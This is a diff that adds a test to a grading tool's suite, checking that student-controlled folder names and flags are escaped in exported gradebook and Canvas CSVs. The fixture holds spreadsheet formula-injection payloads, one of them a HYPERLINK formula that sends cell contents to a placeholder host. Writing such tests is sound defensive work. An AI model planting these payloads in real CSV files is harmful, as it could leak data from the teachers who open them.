@@ -328,6 +328,18 @@ def test_canvas_csv_has_canvas_columns_and_the_gradebooks_points(tmp_path):
     assert canvas_mismatches(out) == ["bob lesson01: 9 != 8"]
 
 
+def test_no_csv_cell_starts_like_a_spreadsheet_formula(tmp_path):
+    """A folder name or flag a student controls must not run as a formula when a teacher opens a CSV."""
+    formula = '=HYPERLINK("x.example?"&A1,"open")'  # a folder name: no "/"
+    out = graded(tmp_path, a_class() + [report(formula, flags=["-1+1 @SUM(A1)"])])
+    for name in ("gradebook.csv", "canvas.csv"):
+        cells = [cell for row in csv.reader(open(out / name, newline="")) for cell in row]
+        assert "'" + formula in cells, name
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], name
+    assert "'-1+1 @SUM(A1)" in (out / "gradebook.csv").read_text()
+    assert canvas_mismatches(out) == []
+
+
 # ------------------------------------------------------------------------------------------ determinism
 
 
